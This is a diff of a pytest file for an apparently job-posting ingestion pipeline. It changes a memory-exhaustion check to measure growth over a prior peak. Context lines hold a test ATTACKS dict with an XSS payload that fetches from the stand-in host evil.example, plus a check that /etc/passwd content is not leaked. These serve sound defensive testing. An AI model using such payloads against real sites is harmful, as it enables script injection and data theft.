@@ -24,7 +24,7 @@ from tests.written import RESUME
 
 SECRET = "root:x:0"  # pragma: allowlist secret
 """How /etc/passwd begins."""
-BELOW_MIB = 1500
+GROWN_BELOW_MIB = 1500
 
 ATTACKS = {
     "script": "<script>window.hacked=1;fetch('https://evil.example/x')</script><img src=x onerror=window.hacked=1>",
@@ -112,8 +112,14 @@ def fill(inbox: Path) -> None:
 
 
 @pytest.fixture(scope="module")
-def lived(tmp_path_factory: pytest.TempPathFactory, endless: str) -> Graph:
-    """A graph that made the week of the attacks, with documents for the whole slate."""
+def peak_before() -> float:
+    """The largest memory of this process so far, in MiB: other tests of the same process may have used much."""
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+
+
+@pytest.fixture(scope="module")
+def lived(tmp_path_factory: pytest.TempPathFactory, endless: str, peak_before: float) -> Graph:
+    """A graph that made the week of the attacks, with documents for the whole slate; after ``peak_before`` was read."""
     folder = tmp_path_factory.mktemp("hostile")
     off = [{"name": name, "enabled": False} for name in ("arbeitnow", "remotive", "sample")]
     graph = Graph(
@@ -150,12 +156,12 @@ def test_the_week_is_made_and_every_attack_is_a_posting_or_named_as_refused(live
     assert SECRET not in lived.home.warehouse.query("SELECT string_agg(payload, ' ') AS p FROM raw_payloads")["p"][0]
 
 
-def test_nothing_of_the_machine_was_exhausted(lived: Graph) -> None:
+def test_nothing_of_the_machine_was_exhausted(lived: Graph, peak_before: float) -> None:
     health = lived.home.warehouse.query("SELECT status, message FROM source_health WHERE source = 'remoteok'").row(0)
     assert health[0] == "unreachable"
     assert "larger than" in health[1]
     assert Endless.sent < 60_000_000
-    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 < BELOW_MIB
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 - peak_before < GROWN_BELOW_MIB
 
 
 def test_documents_lie_in_their_folder_and_say_what_the_profile_says(lived: Graph) -> None:
